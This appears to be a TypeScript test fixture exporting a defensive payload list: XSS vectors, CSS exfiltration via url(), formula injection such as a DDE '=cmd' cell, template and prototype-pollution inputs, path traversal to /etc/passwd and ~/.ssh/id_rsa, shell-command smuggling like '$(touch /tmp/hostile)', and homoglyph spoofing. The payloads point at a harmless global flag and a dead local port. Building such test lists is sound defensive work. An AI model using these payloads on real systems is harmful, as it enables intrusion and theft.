/**
 * Words that try to be more than words. Each would set `globalThis.hostile`, or ask `127.0.0.1:9` for something, wherever it was
 * taken for markup, script, style, a template, a key or a path. The list only grows: what once broke something stays.
 */

const run = 'globalThis.hostile=1';
const host = '127.0.0.1:9';

const scripts = [
  `<script>${run}</script>`,
  `<SCRIPT >${run}</SCRIPT >`,
  `<script src=http://${host}/s.js></script>`,
  `<script type=module>import 'http://${host}/m.js'</script>`,
  `<script type=importmap>{"imports":{"x":"http://${host}/x"}}</script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script\u0000>${run}</script>`,
  `\ufeff<script>${run}</script>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<noscript><p title="</noscript><script>${run}</script>">`,
  `<template><script>${run}</script></template>`,
  `<xmp><script>${run}</script></xmp>`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
];

const handlers = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `"><img src=x onerror=${run}>`,
  `<image src=x onerror=${run}>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<iframe onload=${run}></iframe>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}></select>`,
  `<textarea autofocus onfocus=${run}></textarea>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<p onmouseover=${run} onclick=${run}>hover</p>`,
  `<x tabindex=1 autofocus onfocus=${run}>`,
  `<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=${run}>`,
  `<b style="transition:all 1s" ontransitionend=${run}>`,
  `<object data=x onerror=${run}></object>`,
  `<dialog open oncancel=${run}><form method=dialog></form></dialog>`,
  `<b popover id=p onbeforetoggle=${run}>x</b><button popovertarget=p>y</button>`,
  `<b oncontentvisibilityautostatechange=${run} style="content-visibility:auto">x</b>`,
  `" onfocus=${run} autofocus="`,
  `' onmouseover='${run}' x='`,
];

const drawings = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="data:text/javascript,${run}"/></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${run}"><a><text>x</text></a></svg>`,
  `<svg><use href="http://${host}/u.svg#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
  `<svg><image href="http://${host}/i.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math href="javascript:${run}">x</math>`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
];

const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`,
  `<a href="vbscript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>`,
  `<iframe src="file:///etc/passwd"></iframe>`,
  `<embed src="data:image/svg+xml,<svg onload=${run}>">`,
  `<form action="javascript:${run}"><button autofocus>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `[x](javascript:${run})`,
  `![x](http://${host}/tracking.png)`,
  `<javascript:${run}>`,
  `[x]: javascript:${run} "x"`,
  'file:///etc/passwd',
  'app://ascribe/index.html#x',
  `http://${host}/visited`,
];

const styles = [
  `<style>@import 'http://${host}/i.css';</style>`,
  `<style>*{background:url(http://${host}/b.png)}</style>`,
  `<link rel=stylesheet href=http://${host}/l.css>`,
  `<link rel=preload as=script href=http://${host}/p.js>`,
  `<link rel=dns-prefetch href=//${host}>`,
  `<b style="background:url(http://${host}/c.png)">x</b>`,
  `<b style="position:fixed;inset:0;z-index:9999;background:red">over everything</b>`,
  `<style>input[value^=a]{background:url(http://${host}/a)}</style>`,
  `<style>@font-face{font-family:x;src:url(http://${host}/f.woff2)}*{font-family:x}</style>`,
  `}*{background:url(http://${host}/brace.png)}`,
  `red;background:url(http://${host}/semicolon.png)`,
];

const documents = [
  `<meta http-equiv=refresh content="0;url=http://${host}/refresh">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<meta http-equiv=Content-Security-Policy content="default-src *">`,
  `<base href=http://${host}/>`,
  `<img src=http://${host}/img.png>`,
  `<img srcset="http://${host}/set.png 2x">`,
  `<video poster=http://${host}/poster.png></video>`,
  `<form id=document name=body><input name=querySelector></form>`,
  `<a id=ascribe name=request href=x>clobbered</a>`,
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  '<title>another title</title>',
  '<html><head><frameset><frame src=x>',
];

const templates = [
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{%raw%}{{${run}}}`,
  `[[\${${run}}]]`,
  `\`;${run};//`,
  `';${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `');${run};('`,
  `*/${run}/*`,
  `\u2028${run}\u2029`,
  '$& $1 $$ $` %s %n %x %p %c',
];

const keys = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
];

const cells = [
  '=HYPERLINK("http://127.0.0.1:9/","x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '=WEBSERVICE("http://127.0.0.1:9/")',
  '"=1+1',
  '＝1+1',
];

const paths = [
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd',
  'C:\\Windows\\System32',
  '%2e%2e%2fetc',
  'x\u0000.txt',
  'CON',
  '.',
  '..',
  '~/.ssh/id_rsa',
  '$(touch /tmp/hostile)',
  '; touch /tmp/hostile #',
];

const deceiving = [
  'invoice\u202etxt.exe',
  '\u2066isolated\u2069 \u2067and\u2069',
  'pay\u200bpal',
  'p\u0430ypal',
  '\u{e0068}\u{e0069}hidden tag letters',
  `Z${'\u0335\u0321\u0346'.repeat(60)}algo`,
];

const awkward = [
  '\ud800',
  'x\udc00y',
  '\u0000',
  '\ufffe',
  '\u0007\u001b[31mred',
  'x'.repeat(5_000),
  '\r\n',
  ' ',
  '🏴‍☠️'.repeat(200),
];

/** Every payload, each once. */
export const payloads: readonly string[] = [
  ...scripts,
  ...handlers,
  ...drawings,
  ...addresses,
  ...styles,
  ...documents,
  ...templates,
  ...keys,
  ...cells,
  ...paths,
  ...deceiving,
  ...awkward,
];
